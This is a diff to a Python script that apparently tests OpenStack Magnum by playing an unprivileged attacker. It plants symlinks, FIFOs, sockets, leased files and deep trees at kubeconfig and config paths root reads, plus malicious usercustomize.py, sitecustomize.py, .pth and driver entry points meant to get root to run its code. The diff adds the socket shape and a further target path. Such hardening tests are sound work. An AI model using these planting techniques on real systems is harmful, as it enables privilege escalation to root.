@@ -1,9 +1,9 @@
 """User magnum as an attacker: usage attacker.py SECONDS SEED. Plants whatever it can where root reads, writes or runs something.
 
-In random order: links at the names that root uses and at those that one may guess, FIFOs, files on which it holds a
-lease, trees 3,000 deep, bytes that are not text; code and metadata in its own site directory. Soon after, it puts back
-what stood there, unless somebody else has put something there. At the end nothing of it is left but
-/var/lib/magnum/loot: who has run its code.
+In random order: links at the names that root uses and at those that one may guess, FIFOs, sockets, files on which it
+holds a lease, trees 3,000 deep, bytes that are not text; code and metadata in its own site directory, and any of these in
+its place. Soon after, it puts back what stood there, unless somebody else has put something there. At the end nothing of
+it is left but /var/lib/magnum/loot: who has run its code.
 """
 import fcntl
 import itertools
@@ -50,6 +50,10 @@ def hard_link(path):
 
 def fifo(path):
     os.mkfifo(path)
+
+
+def unix_socket(path):
+    os.mknod(path, stat.S_IFSOCK | 0o666)
 
 
 def odd_bytes(path):
@@ -120,12 +124,12 @@ def metadata(path):
             file.write("[magnum.drivers]\nevil = usercustomize:x\n")
 
 
-SHAPES = (link, link, hard_link, fifo, odd_bytes, large, leased, deep, directory)
+SHAPES = (link, link, hard_link, fifo, unix_socket, odd_bytes, large, leased, deep, directory)
 PLACES = (
     [(ETC + "/" + name, SHAPES) for name in (
         "kubeconfig", "kubeconfig", ".kubeconfig.tmp", "kubeconfig.partial", ".magnum-capi-helm-kubeconfig",
         ".magnum-capi-helm-0123456789abcdef01234567", "set-aside-0", "magnum.conf", "policy.json")]
-    + [(CONF_D, SHAPES), (CONF_D, (directory,)), (CONF_D, (directory,)), (HOME + "/site", SHAPES)]
+    + [(CONF_D, SHAPES), (CONF_D, (directory,)), (CONF_D, (directory,)), (HOME + "/site", SHAPES), (SITE, SHAPES)]
     + [(SITE + "/" + name, (what,)) for name, what in (
         ("usercustomize.py", module), ("sitecustomize.py", module), ("evil.pth", at_start),
         ("magnum_capi_helm", driver), ("magnum_capi_helm", deep), ("magnum_capi_helm.py", link),
